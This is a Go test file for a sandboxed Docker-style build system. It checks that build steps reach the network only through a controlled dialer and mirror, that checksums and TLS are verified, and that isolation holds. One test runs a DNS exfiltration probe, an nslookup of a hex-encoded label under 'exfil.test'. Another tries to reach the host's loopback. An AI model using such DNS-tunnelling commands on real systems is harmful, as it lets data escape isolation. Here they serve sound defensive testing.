package sandbox

import (
	"archive/zip"
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"io"
	"io/fs"
	"log"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
)

// mirrorAddr is the address builds fetch from in these tests: a
// documentation address (TEST-NET-1) that only the tests' dialer knows,
// and sends to the in-process server.
const mirrorAddr = "192.0.2.10"

// mirror is an in-process server the build reaches only through its
// dialer: files, a Python package index (PEP 503) with one wheel, and a
// Go module proxy serving testdata/goproxy.
type mirror struct {
	srv   *httptest.Server
	mu    sync.Mutex
	dials []string // guarded by mu: what the dialer was asked for
	hits  atomic.Int64
	files map[string][]byte
}

func newMirror(t *testing.T) *mirror {
	t.Helper()
	m := &mirror{files: map[string][]byte{
		"/files/hello.txt":      []byte("hello through the dialer\n"),
		"/files/archive.tar.gz": tarGz(t, "top/f=from the archive"),
	}}
	whl := wheel(t, "ccdemo", "1.0", map[string]string{"ccdemo/__init__.py": "GREETING = 'hello from ccdemo'\n"})
	whlName := "ccdemo-1.0-py3-none-any.whl"
	sum := sha256.Sum256(whl)
	m.files["/packages/"+whlName] = whl
	m.files["/simple/ccdemo/"] = []byte(fmt.Sprintf("<!DOCTYPE html><html><body><a href=\"/packages/%s#sha256=%s\">%s</a></body></html>\n", whlName, hex.EncodeToString(sum[:]), whlName))
	m.files["/simple/"] = []byte("<!DOCTYPE html><html><body><a href=\"/simple/ccdemo/\">ccdemo</a></body></html>\n")
	goProxy(t, m.files, "/goproxy", filepath.Join("testdata", "goproxy"))
	m.srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		data, ok := m.files[r.URL.Path]
		if !ok {
			http.NotFound(w, r)
			return
		}
		if r.URL.Path == "/files/hello.txt" {
			m.hits.Add(1)
		}
		w.Header().Set("Last-Modified", "Mon, 01 Jan 2024 00:00:00 GMT")
		w.Write(data)
	}))
	t.Cleanup(m.srv.Close)
	return m
}

// dial is the build's dialer: it records each destination and sends
// every TCP connection to mirrorAddr to the server; it refuses the rest.
func (m *mirror) dial(ctx context.Context, network, addr string) (net.Conn, error) {
	m.mu.Lock()
	m.dials = append(m.dials, network+" "+addr)
	m.mu.Unlock()
	host, _, _ := net.SplitHostPort(addr)
	if network != "tcp" || host != mirrorAddr {
		return nil, fmt.Errorf("the test's dialer refuses %s %s", network, addr)
	}
	var d net.Dialer
	return d.DialContext(ctx, "tcp", m.srv.Listener.Addr().String())
}

func (m *mirror) dialed() []string {
	m.mu.Lock()
	defer m.mu.Unlock()
	return slices.Clone(m.dials)
}

// wheel makes a pure-Python wheel of files, with its RECORD.
func wheel(t *testing.T, name, version string, files map[string]string) []byte {
	t.Helper()
	info := name + "-" + version + ".dist-info/"
	files[info+"METADATA"] = "Metadata-Version: 2.1\nName: " + name + "\nVersion: " + version + "\n"
	files[info+"WHEEL"] = "Wheel-Version: 1.0\nGenerator: sandbox-tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
	var record strings.Builder
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	names := slices.Sorted(func(yield func(string) bool) {
		for n := range files {
			if !yield(n) {
				return
			}
		}
	})
	for _, n := range names {
		w, err := zw.Create(n)
		if err != nil {
			t.Fatal(err)
		}
		w.Write([]byte(files[n]))
		sum := sha256.Sum256([]byte(files[n]))
		fmt.Fprintf(&record, "%s,sha256=%s,%d\n", n, base64.RawURLEncoding.EncodeToString(sum[:]), len(files[n]))
	}
	record.WriteString(info + "RECORD,,\n")
	w, _ := zw.Create(info + "RECORD")
	w.Write([]byte(record.String()))
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// goProxy adds to files, under prefix, the GOPROXY protocol's answers for
// every module version dir/<module>@<version> holds.
func goProxy(t *testing.T, files map[string][]byte, prefix, dir string) {
	t.Helper()
	err := filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil || !d.IsDir() || !strings.Contains(d.Name(), "@") {
			return err
		}
		rel, _ := filepath.Rel(dir, p)
		mod, version, _ := strings.Cut(filepath.ToSlash(rel), "@")
		gomod, err := os.ReadFile(filepath.Join(p, "go.mod"))
		if err != nil {
			return err
		}
		var buf bytes.Buffer
		zw := zip.NewWriter(&buf)
		err = filepath.WalkDir(p, func(f string, d fs.DirEntry, err error) error {
			if err != nil || d.IsDir() {
				return err
			}
			r, _ := filepath.Rel(p, f)
			w, err := zw.Create(mod + "@" + version + "/" + filepath.ToSlash(r))
			if err != nil {
				return err
			}
			data, err := os.ReadFile(f)
			w.Write(data)
			return err
		})
		if err != nil {
			return err
		}
		if err := zw.Close(); err != nil {
			return err
		}
		base := path.Join(prefix, mod, "@v")
		files[base+"/list"] = []byte(version + "\n")
		files[base+"/"+version+".info"] = []byte(fmt.Sprintf(`{"Version":%q,"Time":"2024-01-01T00:00:00Z"}`, version))
		files[base+"/"+version+".mod"] = gomod
		files[base+"/"+version+".zip"] = buf.Bytes()
		return fs.SkipDir
	})
	if err != nil {
		t.Fatal(err)
	}
}

// TestBuildAddURL fetches files with ADD through the build's dialer:
// a plain URL (fetched every build, keyed by its digest), --checksum
// (verified, and the key: a rebuild fetches nothing), --unpack, a
// mismatch, the network off, and the host's loopback with the default
// dialer. The fetches happen in this process, so this holds rootless too.
func TestBuildAddURL(t *testing.T) {
	checkBuildLeaks(t)
	m := newMirror(t)
	hello := m.files["/files/hello.txt"]
	sum := sha256.Sum256(hello)
	df := "FROM busybox\n" +
		"ADD http://" + mirrorAddr + "/files/hello.txt /added.txt\n" +
		"ADD --checksum=sha256:" + hex.EncodeToString(sum[:]) + " http://" + mirrorAddr + "/files/hello.txt /dir/\n" +
		"ADD --unpack=true http://" + mirrorAddr + "/files/archive.tar.gz /unpacked/\n" +
		"ADD http://" + mirrorAddr + "/files/archive.tar.gz /kept/\n"
	b, err := buildDockerfile(t, df, t.TempDir(), WithBuildNetwork(), WithBuildDialer(m.dial))
	if err != nil {
		t.Fatal(err)
	}
	eq(t, "/added.txt", b.file("/added.txt"), string(hello))
	eq(t, "/dir/hello.txt", b.file("/dir/hello.txt"), string(hello))
	eq(t, "modes and the archive", b.sh("stat -c %a /added.txt /dir/hello.txt; cat /unpacked/top/f; echo; ls /kept; date -u -r /added.txt +%Y"), "600\n600\nfrom the archive\narchive.tar.gz\n2024\n")
	for _, d := range m.dialed() {
		if d != "tcp "+mirrorAddr+":80" {
			t.Errorf("the dialer was asked for %q", d)
		}
	}
	if len(m.dialed()) == 0 {
		t.Error("the dialer was never asked")
	}

	// A rebuild fetches the plain URL again (its digest is its key), not
	// the one with a checksum; nothing runs again.
	before := m.hits.Load()
	b2 := b.again(WithBuildNetwork(), WithBuildDialer(m.dial))
	if n := m.hits.Load() - before; n != 1 {
		t.Errorf("the rebuild fetched hello.txt %d times, want 1 (the URL without a checksum)", n)
	}
	if ran := b2.ran(); len(ran) != 0 {
		t.Errorf("the rebuild ran %q", ran)
	}

	// With the checksum the step needs no network once cached.
	only := "FROM busybox\nADD --checksum=sha256:" + hex.EncodeToString(sum[:]) + " http://" + mirrorAddr + "/files/hello.txt /dir/\nENV X=" + randomHex(t) + "\n"
	if _, err := buildDockerfile(t, only, t.TempDir(), WithBuildNetwork(), WithBuildDialer(m.dial)); err != nil {
		t.Fatal(err)
	}
	if _, err := buildDockerfile(t, only, t.TempDir()); err != nil {
		t.Errorf("a cached ADD --checksum without network: %v", err)
	}

	// https is verified against the system's roots: a server with a
	// certificate of its own is refused.
	tlsSrv := httptest.NewUnstartedServer(m.srv.Config.Handler)
	tlsSrv.Config.ErrorLog = log.New(io.Discard, "", 0) // the refused handshake is the point
	tlsSrv.StartTLS()
	defer tlsSrv.Close()
	toTLS := func(ctx context.Context, network, addr string) (net.Conn, error) {
		var d net.Dialer
		return d.DialContext(ctx, "tcp", tlsSrv.Listener.Addr().String())
	}
	for _, c := range []struct {
		df   string
		opts []BuildOption
		want string
	}{
		{"FROM busybox\nADD https://" + mirrorAddr + "/files/hello.txt /x\n", []BuildOption{WithBuildNetwork(), WithBuildDialer(toTLS)}, "certificate"},
		{"FROM busybox\nADD --checksum=sha256:" + strings.Repeat("0", 64) + " http://" + mirrorAddr + "/files/hello.txt /x\n", []BuildOption{WithBuildNetwork(), WithBuildDialer(m.dial)}, "checksum mismatch"},
		{"FROM busybox\nADD http://" + mirrorAddr + "/files/nope /x\n", []BuildOption{WithBuildNetwork(), WithBuildDialer(m.dial)}, "404 Not Found"},
		{"FROM busybox\nADD http://" + mirrorAddr + "/files/hello.txt /x\n", []BuildOption{WithBuildDialer(m.dial)}, "the build has no network: WithBuildNetwork"},
		{"FROM busybox\nADD " + m.srv.URL + "/files/hello.txt /x\n", []BuildOption{WithBuildNetwork()}, "destination refused"},
		{"FROM busybox\nADD http://user:hunter2@" + mirrorAddr + "/files/nope /x\n", []BuildOption{WithBuildNetwork(), WithBuildDialer(m.dial)}, "user:xxxxx@"},
	} {
		_, err := buildDockerfile(t, c.df, t.TempDir(), c.opts...)
		if err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%q: error %v, want %q", c.df, err, c.want)
		}
	}
}

// TestBuildNetwork gives RUN steps the network through the build's
// dialer, the way real Dockerfiles use it: wget, pip install from a
// package index, go mod download from a module proxy, all served in
// this process; --network=none turns it off for a step, and the host's
// loopback stays out of reach with the default dialer. An unprivileged
// user cannot have a network device here (/dev/net/tun is root's): the
// build fails and says so.
func TestBuildNetwork(t *testing.T) {
	checkBuildLeaks(t)
	m := newMirror(t)
	opts := []BuildOption{WithBuildNetwork(), WithBuildDialer(m.dial), WithBuildSource("host", HostImage())}
	_, err := buildDockerfile(t, "FROM busybox\nRUN wget -q -O /got http://"+mirrorAddr+"/files/hello.txt\n", t.TempDir(), opts...)
	if !rootful() {
		if err == nil || !strings.Contains(err.Error(), "/dev/net/tun") {
			t.Fatalf("rootless: %v; want the error to name /dev/net/tun", err)
		}
		return
	}
	if err != nil {
		t.Fatal(err)
	}

	t.Run("wget and --network=none", func(t *testing.T) {
		df := "FROM busybox\nRUN wget -q -O /got http://" + mirrorAddr + "/files/hello.txt\n" +
			"RUN --network=none (wget -q -T 3 -O /none http://" + mirrorAddr + "/files/hello.txt && echo reached || echo unreachable) > /none.txt\n"
		b, err := buildDockerfile(t, df, t.TempDir(), opts...)
		if err != nil {
			t.Fatal(err)
		}
		eq(t, "/got", b.file("/got"), string(m.files["/files/hello.txt"]))
		eq(t, "--network=none", b.file("/none.txt"), "unreachable\n")
	})

	t.Run("DNS through the build's resolver alone", func(t *testing.T) {
		hostNS, hostAsked := fakeNameserver(t)
		savedGo, savedDial := net.DefaultResolver.PreferGo, net.DefaultResolver.Dial
		net.DefaultResolver.PreferGo, net.DefaultResolver.Dial = true, resolverAt(hostNS).Dial
		defer func() { net.DefaultResolver.PreferGo, net.DefaultResolver.Dial = savedGo, savedDial }()
		df := "FROM busybox\nRUN (nslookup 73656372.exfil.test 10.0.2.2 >/dev/null 2>&1 && echo resolved || echo none) > /dns.txt\n"
		b, err := buildDockerfile(t, df, t.TempDir(), append(opts, WithBuildDNSResolver(resolverAt("")))...)
		if err != nil {
			t.Fatal(err)
		}
		eq(t, "a name through a resolver that asks no nameserver", b.file("/dns.txt"), "none\n")
		if names := hostAsked(); len(names) != 0 {
			t.Errorf("the host's resolver was asked %q", names)
		}
	})

	t.Run("the host's loopback with the default dialer", func(t *testing.T) {
		_, port, _ := net.SplitHostPort(m.srv.Listener.Addr().String())
		df := "FROM busybox\nRUN for a in 127.0.0.1:" + port + " 10.0.2.2:" + port + "; do wget -q -T 3 -O - http://$a/files/hello.txt && echo reached $a; done > /loop.txt; true\n"
		b, err := buildDockerfile(t, df, t.TempDir(), WithBuildNetwork())
		if err != nil {
			t.Fatal(err)
		}
		eq(t, "what reached the host's loopback", b.file("/loop.txt"), "")
	})

	t.Run("pip install from a package index", func(t *testing.T) {
		df := "FROM host\nWORKDIR /app\n" +
			"RUN --mount=type=cache,target=/root/.cache/pip pip3 install --disable-pip-version-check --break-system-packages --root-user-action=ignore " +
			"--index-url http://" + mirrorAddr + "/simple/ --trusted-host " + mirrorAddr + " --target /app/lib ccdemo\n" +
			"RUN PYTHONPATH=/app/lib python3 -c 'import ccdemo; print(ccdemo.GREETING)' > /app/out\n"
		b, err := buildDockerfile(t, df, t.TempDir(), opts...)
		if err != nil {
			t.Fatal(err)
		}
		eq(t, "/app/out", b.file("/app/out"), "hello from ccdemo\n")
	})

	t.Run("go build against a module proxy", func(t *testing.T) {
		ctx := writeContext(t, map[string]string{
			"go.mod":  "module example.com/app\n\ngo 1.21\n\nrequire example.com/greet v1.0.0\n",
			"main.go": "package main\n\nimport (\n\t\"fmt\"\n\n\t\"example.com/greet\"\n)\n\nfunc main() { fmt.Println(greet.Hello()) }\n",
		})
		df := "FROM host AS build\n" +
			"ENV PATH=/usr/local/go/bin:$PATH GOPROXY=http://" + mirrorAddr + "/goproxy GOSUMDB=off GOFLAGS=-mod=mod CGO_ENABLED=0 GOTOOLCHAIN=local\n" +
			"WORKDIR /src\nCOPY go.mod ./\n" +
			"RUN --mount=type=cache,target=/root/go/pkg/mod go mod download\n" +
			"COPY . .\n" +
			"RUN --mount=type=cache,target=/root/go/pkg/mod --mount=type=cache,target=/root/.cache/go-build go build -o /out/app .\n" +
			"FROM busybox\nCOPY --from=build /out/app /app\nCMD [\"/app\"]\n"
		b, err := buildDockerfile(t, df, ctx, opts...)
		if err != nil {
			t.Fatal(err)
		}
		out, err := newInstance(t, b.snap).EntrypointCommand().Output()
		if err != nil {
			t.Fatal(err)
		}
		eq(t, "the program", string(out), "hello from example.com/greet v1.0.0\n")
	})

	// Every connection the steps opened went to the mirror.
	for _, d := range m.dialed() {
		if d != "tcp "+mirrorAddr+":80" {
			t.Errorf("a step dialed %s", d)
		}
	}
}
